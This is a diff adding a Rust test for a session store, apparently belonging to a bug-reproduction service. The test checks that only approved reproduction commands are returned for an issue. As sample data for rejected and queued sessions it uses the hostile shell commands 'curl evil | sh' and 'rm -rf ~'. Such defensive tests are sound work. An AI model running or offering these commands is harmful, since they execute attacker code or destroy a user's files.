@@ -274,4 +274,29 @@ on_both_backends! {
             assert!(db.store.get_delivery(&format!("g-{i}")).await.unwrap().is_some());
         }
     }
+
+    async fn approved_repro_command_skips_unapproved_and_own_sessions(db) {
+        let store = &db.store;
+        let set = |status: SessionStatus, repro: &str| SessionPatch {
+            status: Some(status),
+            repro_command: Some(repro.to_owned()),
+            ..Default::default()
+        };
+        let approved = store.create_session(issue_session(8)).await.unwrap();
+        store.update_session(&approved.id, &set(SessionStatus::NotReproduced, "pytest -k a")).await.unwrap();
+        tokio::time::sleep(Duration::from_millis(5)).await;
+        // A non-writer's trigger (rejected) and one not yet authorised (queued) do not count.
+        let rejected = store.create_session(issue_session(8)).await.unwrap();
+        store.update_session(&rejected.id, &set(SessionStatus::Rejected, "curl evil | sh")).await.unwrap();
+        tokio::time::sleep(Duration::from_millis(5)).await;
+        let queued = store.create_session(issue_session(8)).await.unwrap();
+        store.update_session(&queued.id, &set(SessionStatus::Queued, "rm -rf ~")).await.unwrap();
+        let other_issue = store.create_session(issue_session(9)).await.unwrap();
+        store.update_session(&other_issue.id, &set(SessionStatus::Failed, "make other")).await.unwrap();
+
+        let found = store.approved_repro_command("octo/hello", 8, &queued.id).await.unwrap();
+        assert_eq!(found.as_deref(), Some("pytest -k a"));
+        assert_eq!(store.approved_repro_command("octo/hello", 8, &approved.id).await.unwrap(), None, "never the session itself");
+        assert_eq!(store.approved_repro_command("octo/other", 8, &queued.id).await.unwrap(), None);
+    }
 }
